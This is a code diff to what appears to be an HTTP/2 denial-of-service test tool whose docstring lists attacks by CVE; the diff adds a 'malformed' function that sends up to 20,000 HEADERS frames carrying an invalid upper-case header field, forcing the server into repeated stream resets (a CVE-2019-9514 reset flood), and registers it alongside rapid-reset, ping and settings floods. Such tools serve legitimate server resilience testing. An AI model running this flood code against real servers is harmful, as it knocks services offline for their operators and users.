@@ -11,6 +11,7 @@ Attacks (RFC 9113 §10.5 and the CVEs they are named after):
   empty_data    empty DATA frames on an open stream (CVE-2019-9518)
   continuation  endless CONTINUATION frames (CVE-2024-27316 family)
   hpack_bomb    a small block that decodes to a huge header list (RFC 9113 §10.5.1)
+  malformed     requests the server must reset, one after another (CVE-2019-9514)
   window        a stream whose receive window is never opened (slow reader)
 """
 import sys
@@ -94,6 +95,21 @@ def _int7(v):
     return out + bytes([v])
 
 
+def malformed(c, n=20000):
+    # requests nghttp2 must refuse with RST_STREAM(PROTOCOL_ERROR): an upper-case field name
+    # (RFC 9113 §8.2.1); each costs the server a reset (CVE-2019-9514, reset flood)
+    enc = hpack.Encoder()
+    sent = 0
+    for i in range(n):
+        blk = request_block("/", encoder=enc) + bytes([0x00, 0x03]) + b"BAD" + bytes([0x01]) + b"x"
+        if not c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, blk)):
+            break
+        sent += 1
+        if i % 100 == 0 and not c.pump(0):
+            break
+    return sent
+
+
 def window(c):
     # SETTINGS_INITIAL_WINDOW_SIZE = 0 (sent by RawConn): the response can never be sent
     c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block("/big")))
@@ -102,7 +118,7 @@ def window(c):
 
 ATTACKS = {"rapid_reset": rapid_reset, "settings": settings_flood, "ping": ping_flood,
            "empty_data": empty_data, "continuation": continuation, "hpack_bomb": hpack_bomb,
-           "window": window}
+           "window": window, "malformed": malformed}
 
 
 def main():
